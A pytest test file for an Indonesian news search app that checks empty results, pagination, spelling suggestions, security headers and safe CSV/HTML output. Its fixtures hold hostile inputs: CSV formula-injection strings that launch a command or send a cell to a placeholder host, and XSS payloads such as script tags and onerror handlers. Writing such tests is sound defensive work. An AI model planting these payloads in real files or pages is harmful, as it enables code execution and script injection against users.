"""Answers an analyst can trust: empty filters mean nothing, pages past the end, spelling, safe output.

Each test here failed on the code before it: a filter matching nothing listed unrelated
articles, a date order over nothing gave a 500, the suggestion preferred a frequent word
two edits away over a close one, a page past the end pretended to be a page, CSV cells ran
as spreadsheet formulas, and no security header was sent.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from search.engine import EngineConfig
from tests.conftest import ROOT, Backend, app_for, cli_args

# Filters that match nothing in the seeds (2024, 2025 and undated; five outlets).
NOTHING = [
    {"q": "netralitas", "date": "2019"},
    {"q": "netralitas", "from": "2020-01-01", "to": "2020-12-31"},
    {"q": "netralitas", "outlet": "tidak-ada.example"},
    {"q": "netralitas", "group": "tidak-ada"},
    {"date": "2019"},
    {"q": "netralitas asn", "date": "2019-05"},
]


@pytest.mark.parametrize("sort", ["", "relevansi", "terbaru", "terlama"])
@pytest.mark.parametrize("grouping", ["", "off"])
@pytest.mark.parametrize("params", NOTHING, ids=lambda p: "&".join(f"{k}={v}" for k, v in p.items()))
def test_a_filter_that_matches_nothing_lists_nothing(seed_client, params: dict[str, str], sort: str, grouping: str) -> None:
    query = {**params, "sort": sort, "grouping": grouping}
    envelope = seed_client.get("/api/search", query_string=query).get_json()
    assert (envelope["total"], envelope["hits"], envelope["pages"]) == (0, [], 1)
    assert all(b["count"] == 0 for b in (envelope["coverage"] or {"buckets": []})["buckets"])
    page = seed_client.get("/", query_string=query, follow_redirects=True)  # blank parameters are dropped by a redirect
    assert page.status_code == 200
    assert 'class="hit"' not in page.get_data(as_text=True) and "Tidak ada artikel yang cocok" in page.get_data(as_text=True)
    assert seed_client.get("/api/export.json", query_string=query).get_json() == []
    rows = seed_client.get("/api/export.csv", query_string=query).get_data(as_text=True).lstrip("\ufeff").splitlines()
    assert len(rows) == 1  # the header alone


def test_the_command_line_lists_nothing_when_the_filter_matches_nothing(seed_engine: EngineConfig) -> None:
    for sort in ("relevansi", "terbaru"):
        out = subprocess.run(
            [sys.executable, "-m", "web", "search", "netralitas", "--from", "2020-01-01", "--to", "2020-12-31",
             "--sort", sort, *cli_args(seed_engine)],
            capture_output=True, text=True, cwd=ROOT,
        )
        assert out.returncode == 0, out.stderr
        assert out.stdout.startswith("0 hasil") and "1. " not in out.stdout and "Traceback" not in out.stderr


@pytest.fixture(scope="module")
def spelling_index(backend: Backend, tmp_path_factory: pytest.TempPathFactory) -> EngineConfig:
    """``milik`` (two edits from ``minyk``) in many articles, ``minyak`` (one edit) in one."""
    records = [{"id": f"milik-{i}", "text": f"Rumah nomor {i} ini milik warga desa yang ramah."} for i in range(12)]
    records.append({"id": "minyak", "text": "Harga minyak goreng di pasar naik lagi pekan ini."})
    data = tmp_path_factory.mktemp("spelling") / "records.jsonl"
    data.write_text("\n".join(json.dumps(r) for r in records), encoding="utf-8")
    return backend.build(tmp_path_factory.mktemp("spelling-index"), data)


@pytest.mark.parametrize(("typed", "meant"), [("minyk", "minyak"), ("minyk goreng", "minyak goreng"), ("mniyak", "minyak"),
                                                 ("ninyak", "minyak")])
def test_the_suggestion_prefers_fewer_edits_over_a_more_frequent_word(spelling_index: EngineConfig, typed: str, meant: str) -> None:
    client = app_for(spelling_index)
    envelope = client.get("/api/search", query_string={"q": typed, "correction": "off"}).get_json()  # as typed: the suggestion offered
    assert envelope["suggestion"]["query"] == meant
    assert "Mungkin maksud Anda" in client.get("/", query_string={"q": typed, "correction": "off"}).get_data(as_text=True)


def test_the_suggestion_is_offered_only_when_it_finds_something_under_the_filters(spelling_index: EngineConfig) -> None:
    client = app_for(spelling_index)
    assert client.get("/api/search?q=minyk&outlet=tidak-ada.example").get_json()["suggestion"] is None
    assert client.get("/api/search?q=mlk").get_json()["suggestion"] is None  # too short to guess from


@pytest.mark.parametrize("sort", ["", "terbaru", "terlama"])
def test_a_page_past_the_end_redirects_to_the_last_page(sample_client, sort: str) -> None:
    last = sample_client.get("/api/search", query_string={"q": "jakarta", "sort": sort}).get_json()["pages"]
    assert last > 1
    response = sample_client.get("/", query_string={"q": "jakarta", "page": 999, **({"sort": sort} if sort else {})})
    assert response.status_code == 302
    location = response.headers["Location"]
    assert location.startswith("/?") and f"page={last}" in location and "q=jakarta" in location
    shown = sample_client.get(location).get_data(as_text=True)
    assert f"Halaman {last} dari {last}" in shown and 'class="hit"' in shown


def test_the_api_answers_a_page_past_the_end_with_404_naming_the_last_page(sample_client) -> None:
    last = sample_client.get("/api/search?q=jakarta&date=2017").get_json()["pages"]
    response = sample_client.get("/api/search?q=jakarta&date=2017&page=999&sort=terbaru")
    body = response.get_json()
    assert response.status_code == 404 and body["last_page"] == last
    assert body["last_page_url"] == f"/api/search?q=jakarta&date=2017&sort=terbaru&page={last}"
    assert str(last) in body["error"]
    assert sample_client.get(body["last_page_url"]).get_json()["hits"]
    # an empty result has one (empty) page; page 2 of it does not exist
    assert sample_client.get("/api/search?q=jakarta&date=2019&page=2").status_code == 404


def test_the_command_line_says_which_page_is_the_last(sample_engine: EngineConfig) -> None:
    out = subprocess.run([sys.executable, "-m", "web", "search", "jakarta", "--page", "999", "--sort", "terbaru",
                          *cli_args(sample_engine)], capture_output=True, text=True, cwd=ROOT)
    assert out.returncode == 1 and "Traceback" not in out.stderr
    assert "halaman 999 tidak ada" in out.stderr


HOSTILE = {
    "title": '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik") <script>alert("judul")</script>',
    "city": "+CMD|' /C calc'!A0",
    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
    "outlet": '<img src=x onerror=alert("media")>',
    "url": "javascript:alert('url')",
}


@pytest.fixture(scope="module")
def hostile_client(backend: Backend, tmp_path_factory: pytest.TempPathFactory):
    """An index of articles whose every field is an attack on a spreadsheet or a browser."""
    records = [
        {"id": "jahat-1", "date": "2024-03-05", **HOSTILE,
         "text": 'Banjir <script>alert("isi")</script> melanda <b onmouseover="alert(1)">kota</b> javascript:alert(2) lagi.'},
        {"id": "-2+3", "date": "2024-03-06", "title": "-2+3 banjir", "outlet": "\tTab Media",
         "text": "Banjir kedua melanda kota <svg onload=alert(3)> pada malam hari."},
    ]
    data = tmp_path_factory.mktemp("hostile") / "records.jsonl"
    data.write_text("\n".join(json.dumps(r) for r in records), encoding="utf-8")
    return app_for(backend.build(tmp_path_factory.mktemp("hostile-index"), data))


def test_csv_cells_never_run_as_formulas_and_json_stays_exact(hostile_client) -> None:
    text = hostile_client.get("/api/export.csv?q=banjir").get_data(as_text=True)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
    assert set(rows) == {"jahat-1", "'-2+3"}
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows["jahat-1"]["title"] == "'" + HOSTILE["title"] and rows["jahat-1"]["city"] == "'" + HOSTILE["city"]
    assert rows["'-2+3"]["title"] == "'-2+3 banjir"
    exact = {r["id"]: r for r in hostile_client.get("/api/export.json?q=banjir").get_json()}
    assert exact["jahat-1"]["title"] == HOSTILE["title"] and exact["-2+3"]["title"] == "-2+3 banjir"


def _no_live_markup(html: str) -> None:
    for attack in ("<script>alert", "<img src=x", "<b onmouseover", "<svg onload", 'href="javascript'):
        assert attack not in html, attack


def test_article_text_is_inert_on_every_page_and_part_of_a_page(hostile_client) -> None:
    search = hostile_client.get("/?q=banjir&grouping=off").get_data(as_text=True)
    _no_live_markup(search)
    assert "&lt;script&gt;alert(&#34;judul&#34;)&lt;/script&gt;" in search  # the title, shown as text
    assert "&lt;img src=x onerror=alert(&#34;media&#34;)&gt;" in search  # the outlet, in hits and facet labels
    assert "<mark" in search  # snippets keep their own markup only
    for page in ("/artikel/jahat-1", "/artikel/-2+3", "/?q=banjir&chart=share", "/?q=banjjir", "/?date=2024-03"):
        _no_live_markup(hostile_client.get(page).get_data(as_text=True))
    assert "Mungkin maksud Anda" in hostile_client.get("/?q=banjjir&correction=off").get_data(as_text=True)
    envelope = hostile_client.get("/api/search?q=banjir").get_json()
    assert all("<script>" not in hit["snippet"] for hit in envelope["hits"])


@pytest.mark.parametrize("path", ["/", "/?q=banjir", "/artikel/jahat-1", "/bantuan", "/api/search?q=banjir",
                                  "/api/export.csv?q=banjir", "/api/export.json", "/tidak-ada", "/api/artikel/jahat-1"])
def test_every_answer_carries_the_security_headers(hostile_client, path: str) -> None:
    headers = hostile_client.get(path).headers
    policy = headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "unsafe-inline" not in policy
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"
    assert headers["X-Frame-Options"] == "DENY"


@pytest.mark.parametrize("written", ["2024-W01-1", "20240101", "2024-1-5", "２０２４-01-01", "2024-01-01T00:00"])
def test_a_date_parameter_is_read_only_as_written_in_the_docs(seed_client, written: str) -> None:
    for parameter in ("from", "to"):
        response = seed_client.get("/api/search", query_string={parameter: written})
        assert response.status_code == 400 and "TTTT-BB-HH" in response.get_json()["error"], (parameter, written)
    assert seed_client.get("/api/search?from=2024-01-05").status_code == 200
